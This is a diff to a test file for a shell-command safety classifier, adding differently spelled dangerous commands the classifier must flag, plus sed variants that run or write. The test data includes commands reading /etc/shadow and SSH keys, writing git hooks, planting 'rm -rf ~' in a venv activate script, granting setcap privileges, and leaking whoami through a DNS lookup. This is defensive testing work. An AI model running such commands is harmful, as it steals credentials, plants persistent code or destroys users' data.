@@ -210,6 +210,31 @@ SEEN_THROUGH = {
     "parallel 'sh -c {}' :::: cmds.txt": "runs what it reads as shell code (parallel sh -c {})",
 }
 
+# Second spellings of the same blind spots, found while closing them.
+RESPELLED = {
+    "cd src && cat ../../etc/shadow": "reads a secret file (cat ../../etc/shadow)",
+    "cat //etc/shadow": "reads a secret file",
+    "cat /etc/{passwd,shadow}": "reads a secret file",
+    "f=/etc/shadow; cat $f": "reads a secret file (/etc/shadow)",
+    "for f in ~/.ssh/*; do cat $f; done": "reads a secret file (~/.ssh/*)",
+    "python3 -c \"print(open('/etc/shadow').read())\"": "runs inline code that reads a secret file",
+    "cd .git && echo x > hooks/pre-commit": "changes .git, where hooks and config run commands",
+    "cd .git/hooks && cp ../../h pre-push": "changes .git",
+    "ln -s .git g; echo x > g/hooks/pre-commit": "links to a place where code runs later (ln .git)",
+    "cp -s /etc/passwd p": "links to a path outside the workspace (cp /etc/passwd)",
+    "python3 -c \"open('.git/hooks/pre-commit', 'w').write('x')\"": "runs inline code that writes where code runs later",
+    "BASH_ENV=evil.sh bash -c ls": "runs the script evil.sh",
+    "bash --rcfile evil.sh -i": "runs the script evil.sh",
+    "echo 'rm -rf ~' > .venv/bin/activate; source .venv/bin/activate": "in source .venv/bin/activate: deletes",
+    "echo -n > app.log": "empties a file (> app.log)",
+    "printf '' > app.log": "empties a file (> app.log)",
+    ": 2> app.log": "empties a file (> app.log)",
+    "xargs kill < pids.txt": "signals the processes it reads (xargs kill)",
+    "pgrep x | xargs kill -9": "signals the processes it reads (xargs kill)",
+    "setcap cap_setuid+ep ./x": "gives a program privileges (setcap)",
+    "getent hosts $(whoami).x.example": "puts a value computed at run time into a network lookup",
+}
+
 # Commands in the spirit of the blind fault hunt, spelled differently from the examples above.
 FRESH = [
     "sh ./scripts/setup.sh --yes",
@@ -338,8 +363,9 @@ RUN_CODE = [
     "kubectl get pods", "docker ps", "helm list", "aws ec2 describe-instances", "pip list", "crontab -l",
     "systemctl status nginx", "command ls", "PAGER=cat git log",
 ]
+SED_RUNS = ["sed 's/a/b/ep' x", "sed 's|a|b|w out' x", "sed '1e id' x"]
 NO_CODE = [
-    "ls -la", "cat README.md", "grep -rn TODO src", "rg -n foo", "head -n 5 a.txt", "wc -l *.py",
+    "sed -n 's/a/b/p' x", "cd src && cat main.py", "ls -la", "cat README.md", "grep -rn TODO src", "rg -n foo", "head -n 5 a.txt", "wc -l *.py",
     "find . -name '*.py'", "env", "command -v python3", "sed -n '1,5p' a.py", "sort a | uniq -c",
     "jq .name package.json", "diff a b", "cd src && ls", "ls > /dev/null 2>&1", "echo $(date)",
     "stat setup.py", "du -sh .",
@@ -374,6 +400,12 @@ def test_wrapper_is_seen_through(command, reason):
     assert danger is Danger.DANGEROUS and reason in why
 
 
+@pytest.mark.parametrize("command,reason", RESPELLED.items())
+def test_respelled_blind_spot_is_dangerous(command, reason):
+    danger, why = classify_command(command)
+    assert danger is Danger.DANGEROUS and reason in why
+
+
 @pytest.mark.parametrize("command", FRESH)
 def test_fresh_dangerous_command_is_gated(command):
     danger, why = classify_command(command)
@@ -398,6 +430,11 @@ def test_deliberate_exception_stays_moderate(command):
 @pytest.mark.parametrize("command", RUN_CODE)
 def test_command_that_can_run_code_is_not_run_without_a_sandbox(command):
     assert is_read_only(command) and not runs_no_code(command)
+
+
+@pytest.mark.parametrize("command", SED_RUNS)
+def test_sed_that_runs_or_writes_is_not_read_only(command):
+    assert not is_read_only(command)
 
 
 @pytest.mark.parametrize("command", NO_CODE)
